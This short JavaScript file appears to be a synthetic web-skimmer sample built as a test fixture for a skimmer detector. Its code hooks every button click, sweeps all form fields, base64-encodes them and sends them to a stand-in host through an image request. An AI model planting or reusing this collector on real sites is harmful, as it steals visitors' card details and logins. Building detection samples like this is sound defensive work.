// Synthetic skimmer kit for skimwatch tests, shaped like the sold kits'
// collectors: every field swept, base64 in an image URL.
var SkimData = { Gate: "https://cdn-jscript.example/gate.php", Data: {}, Sent: [],
  SaveParam: function (el) { if (el.name) this.Data[el.name] = el.value; },
  GetImageUrl: function (d) { return this.Gate + "?image_id=" + btoa(d); },
  TrySend: function () {
    var els = document.querySelectorAll("input, select, textarea");
    for (var i = 0; i < els.length; i++) this.SaveParam(els[i]);
    var j = JSON.stringify(this.Data);
    var img = new Image(); img.src = this.GetImageUrl(j);
  } };
document.querySelectorAll("button, input[type=submit]").forEach(function (b) { b.addEventListener("click", function () { SkimData.TrySend(); }); });
